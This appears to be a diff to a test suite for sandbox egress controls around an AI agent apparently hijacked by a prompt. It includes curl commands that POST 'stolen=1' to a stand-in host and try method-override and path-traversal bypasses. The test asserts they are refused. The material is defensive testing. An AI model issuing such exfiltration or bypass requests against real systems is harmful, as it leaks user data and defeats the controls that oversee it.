@@ -69,6 +69,8 @@ describe('a sandbox whose agent a prompt has turned, with brokered credentials',
       json: { name: 'tools', transport: 'http', url: at('tools.example', '/mcp') },
     });
     expect(status).toBe(201);
+    // Nobody is asked about a host whose credential is revoked, so that the script of the agent stays as it is.
+    await world.stack.query(`UPDATE app.org SET settings = settings || '{"egressUnknown": "refuse"}'`);
     talk = await world.stack.talk('begin', [finish('Ready.')]);
     await talk.ended('finished');
   });
@@ -163,7 +165,7 @@ describe('a sandbox whose agent a prompt has turned, with brokered credentials',
     const said = await sandbox(
       `curl -sS -X POST -d stolen=1 ${at('docs.example', '/page')}; curl -sS -H 'X-HTTP-Method-Override: PUT' ${at('docs.example', '/page')}; curl -sS --path-as-is ${at('docs.example', '/a/../b')}`,
     );
-    expect(said.match(/egress\.request-refused/g)).toHaveLength(2);
+    expect(said.match(/"code":"egress\.request-refused"/g)).toHaveLength(2);
     expect(said).toContain('credential.request-refused');
     expect(said).toContain('GET, HEAD, OPTIONS of every path (rule egr_');
     expect(world.outside.taken.length).toBe(before);
